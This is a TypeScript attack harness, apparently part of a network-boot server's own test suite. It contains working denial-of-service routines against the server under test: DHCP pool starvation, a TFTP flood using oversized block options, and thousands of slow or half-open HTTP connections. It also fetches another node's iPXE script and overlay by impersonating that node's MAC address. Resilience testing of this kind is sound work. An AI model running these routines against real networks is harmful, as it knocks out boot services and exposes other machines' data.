import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createConnection, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { encodeTftp } from '../../src/tftp/packet.ts'
import { corpus } from '../fuzz/corpus.ts'
import { HttpConnection } from '../storm/http-client.ts'

/**
 * The process of an attacker, in the nodes' namespace: attack.ts KIND SERVER PATH ADDRESS…. Says a line of JSON when the
 * attack stands, and goes on until it is ended.
 */
const [kind, server, path, ...from] = process.argv.slice(2) as [string, string, string, ...string[]]
const literal = (host: string, _options: unknown, done: (error: null, address: string, family: number) => void) =>
  done(null, host, 4)
const say = (told: object) => process.stdout.write(`${JSON.stringify(told)}\n`)

const attacks: { readonly [kind: string]: () => Promise<void> } = {
  /** DISCOVERs of machines that do not exist, more than the pool has addresses. */
  async 'dhcp-starvation'() {
    const socket = createSocket({ type: 'udp4', lookup: literal })
    const listening = once(socket, 'listening')
    socket.bind(0, '0.0.0.0')
    await listening
    socket.setBroadcast(true)
    let sent = 0
    for (;;) {
      for (let i = 0; i < 100; i++) {
        const packet = Buffer.from(corpus.dhcp[0]!)
        packet.writeUInt32BE(sent, 4)
        packet.writeUInt32BE(sent++, 30)
        socket.send(packet, 67, '255.255.255.255', () => {})
      }
      if (sent === 4000) say({ sent })
      await sleep(50)
    }
  },
  /** Requests for the largest blocks and windows, whose answers nobody acknowledges. */
  async 'tftp-flood'() {
    const options = new Map(Object.entries({ blksize: '65464', windowsize: '65535', tsize: '0' }))
    const greedy = encodeTftp({ op: 'read', file: 'undionly.kpxe', mode: 'octet', options })
    const plain = encodeTftp({ op: 'read', file: 'undionly.kpxe', mode: 'octet', options: new Map() })
    let [sent, got] = [0, 0]
    const sockets = await Promise.all(
      from.flatMap((address) =>
        Array.from({ length: 64 }, async () => {
          const socket = createSocket({ type: 'udp4', lookup: literal })
          const listening = once(socket, 'listening')
          socket.bind(0, address)
          await listening
          return socket.on('message', (reply) => {
            got += reply.length
          })
        }),
      ),
    )
    for (let round = 0; ; round++) {
      for (const [i, socket] of sockets.entries()) {
        const request = (round + i) % 2 === 0 ? greedy : plain
        sent += request.length
        socket.send(request, 69, server, () => {})
        if (i % 100 === 0) await sleep(5)
      }
      if (round === 3) say({ sent, got, times: got / sent })
    }
  },
  /** A thousand readers of the kernel who take nothing. */
  'slow-readers': () =>
    holdConnections(1000, (socket) => {
      socket.pause()
      socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`)
    }),
  /** Asks as another node, whose MAC it has seen on the wire, for its script and by that for its overlay. */
  async 'another-overlay'() {
    let [scripts, overlays] = [0, 0]
    for (;;) {
      for (const address of from) {
        const connection = new HttpConnection(address, server, 8080)
        const ask = (path: string) => connection.request('attack', path).catch(() => ({ status: 0, text: '' }))
        const { text } = await ask('/ipxe?mac=02:00:07:00:00:00')
        const overlay = /http:\/\/[^/]+(\/overlay\S+)/.exec(text)?.[1]
        if (overlay !== undefined) {
          scripts++
          if ((await ask(overlay)).status === 200) overlays++
        }
        connection.close()
      }
      say({ asked: from.length, scripts, overlays })
      await sleep(1000)
    }
  },
  /** Ten thousand connections that begin a request and leave it there. */
  'half-open': () => holdConnections(10_000, (socket) => socket.write('GET /boot.ipxe HTTP/1.1\r\nHo')),
}

/** Opens so many, and again whatever the server cuts. */
async function holdConnections(count: number, begin: (socket: Socket) => void): Promise<void> {
  let [open, cut, refused] = [0, 0, 0]
  const lane = async (address: string) => {
    for (;;) {
      const socket = createConnection({ host: server, port: 8080, localAddress: address })
      socket.on('error', () => refused++)
      socket.on('connect', () => {
        open++
        begin(socket)
      })
      await once(socket, 'close').catch(() => {})
      cut++
      await sleep(500)
    }
  }
  for (let i = 0; i < count; i++) {
    void lane(from[i % from.length]!)
    if (i % 200 === 199) await sleep(50)
  }
  await sleep(2000)
  say({ open, cut, refused })
  // Cut connections come again after a pause in which nothing else would keep this process.
  setInterval(() => {}, 60_000)
  await new Promise(() => {})
}

await attacks[kind]!()
